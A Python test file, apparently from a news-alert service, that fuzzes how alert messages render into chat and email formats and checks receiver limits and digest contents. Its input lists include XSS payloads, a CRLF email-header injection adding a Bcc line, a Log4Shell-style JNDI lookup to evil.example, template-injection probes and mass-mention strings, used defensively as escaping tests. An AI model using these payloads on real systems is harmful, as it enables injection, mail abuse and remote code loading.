"""Whatever articles say, each format keeps to its receiver's limits, and nothing of it is read as markup."""

from datetime import timedelta
from email import message_from_bytes, policy

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from msgspec.structs import replace

from alerts.formats.format import EmailRequest
from alerts.message.payload import AlertType, Message
from tests.alerts.formats.limits import CHECKS, faults
from tests.alerts.formats.samples import FORMATS, MANY, MESSAGES, PEOPLE, body, digested, rendered, told
from tests.alerts.samples import NOON, change, contradiction, evidence
from wire.records import Side, Stance

NASTY = [
    "<!channel> <!here> @channel @everyone <@U012AB3CD> <#C01> <https://evil.example|click>",
    "*bold* _it_ ~no~ `code` ```block``` [text](https://evil.example) ![x](y) > quote # head || spoiler ||",
    "<script>alert(1)</script><img src=x onerror=alert(1)>\"'><a href='javascript:alert(1)'>",
    "# A headline of its own",
    "\r\nBcc: all@desk.example\r\n\r\nbody\n.\r\nQUIT",
    "{{DATE(2023-05-04T12:00:00Z,SHORT)}} <at>everyone</at> ${jndi:ldap://evil.example} %s {0} {{ 7*7 }}",
    "\x00\x01\x07\x1b[31m\x7f\x85\u2028\u2029\u202e txt.exe \u2066x\u2069 \ufeff\ufffe",
    "😀" * 700 + "👩‍👩‍👧‍👦" * 200,
    "]]>&amp;&lt;&#x0;<!--",
    "\\" * 3000,
    "&" * 4000,
    "*" * 4000,
    "ف" * 3000,
    "",
]
URLS = [
    "https://ledger.example/a|b>c<d e\"f'g)h(i",
    "javascript:alert(1)",
    "https://ledger.example/" + "x" * 5000,
    "https://[broken",
    "https://ledger.example/\r\nX: y",
    "https://لجر.example/ف_ف*ف",
    "",
]
WORDS = st.one_of(st.sampled_from(NASTY), st.text(st.characters(exclude_categories=["Cs"]), max_size=300))
ADDRESSES = st.one_of(st.sampled_from(URLS), st.text(st.characters(exclude_categories=["Cs"]), max_size=60))


@st.composite
def messages(draw: st.DrawFn) -> Message:
    words, address = draw(WORDS), draw(ADDRESSES)
    voices = tuple(
        evidence(
            (words * 3)[:4000],
            outlet=draw(WORDS),
            claimant=draw(WORDS),
            stance=draw(st.sampled_from(Stance)),
            title=words,
            url=address,
        )
        for _ in range(draw(st.sampled_from([0, 1, 3, 12])))
    )
    kind, sequence = draw(st.sampled_from([(AlertType.OPENED, 1), (AlertType.UPDATED, 7), (AlertType.WITHDRAWN, 40)]))
    changes = tuple([words] * draw(st.sampled_from([0, 4])))
    if draw(st.booleans()):
        finding = replace(change(name=words, theatre=draw(WORDS), voices=voices), place=words, confidence=words)
        made = told(finding, kind, sequence, at=NOON + timedelta(hours=draw(st.sampled_from([0, 3]))), changes=changes)
    else:
        sides = tuple(Side(f"{words} {number}", voices) for number in range(draw(st.sampled_from([2, 3, 12]))))
        made = told(contradiction(sides=sides, incident=words), kind, sequence, changes=changes)
    data = made.data
    if draw(st.sampled_from([False, False, True])):  # neither a change nor a contradiction, and nobody to quote
        data = replace(data, kind="something_else", change=None, disagreement=None, sides=(), place="", theatre="")
    return replace(made, data=data)


def test_every_format_has_its_limits() -> None:
    assert set(CHECKS) == set(FORMATS)


@pytest.mark.parametrize("name", sorted(FORMATS))
@pytest.mark.parametrize("sample", sorted(MESSAGES))
def test_the_samples_are_within_the_limits(name: str, sample: str) -> None:
    assert faults(name, rendered(name, MESSAGES[sample])) == []


@given(messages())
@example(MESSAGES["opened"])
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_whatever_articles_say_each_message_is_within_its_limits(message: Message) -> None:
    assert {name: found for name in FORMATS if (found := faults(name, rendered(name, message)))} == {}


@given(st.lists(messages(), min_size=1, max_size=5), st.sampled_from([1, 40]))
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_so_is_each_digest(told: list[Message], times: int) -> None:
    assert {name: found for name in PEOPLE if (found := faults(name, digested(name, told * times)))} == {}


@pytest.mark.parametrize("name", sorted(set(FORMATS) - set(PEOPLE)))
def test_a_format_for_machines_tells_one_alert_at_a_time(name: str) -> None:
    with pytest.raises(TypeError):
        digested(name, MANY)


@pytest.mark.parametrize("name", PEOPLE)
def test_a_digest_names_every_alert_that_is_told_in_it(name: str) -> None:
    """What is only counted would stand as told in the journal."""
    said = replace(MESSAGES["updated"].data, headline=("Ceasefire of the northern provinces " * 6)[:200])
    ids = [f"ceasefire1-{'k' * 26}-{number:02}" for number in range(FORMATS[name].together)]
    alerts = [replace(said, id=each, link=f"https://news.example/crosswire/alerts/{each}") for each in ids]
    request = digested(name, [replace(MESSAGES["updated"], data=each) for each in alerts])
    if isinstance(request, EmailRequest):
        (text, _) = message_from_bytes(request.message, policy=policy.default).iter_parts()
        shown = text.get_content()
    else:
        shown = body(request).decode()
    assert [each for each in ids if each not in shown] == []
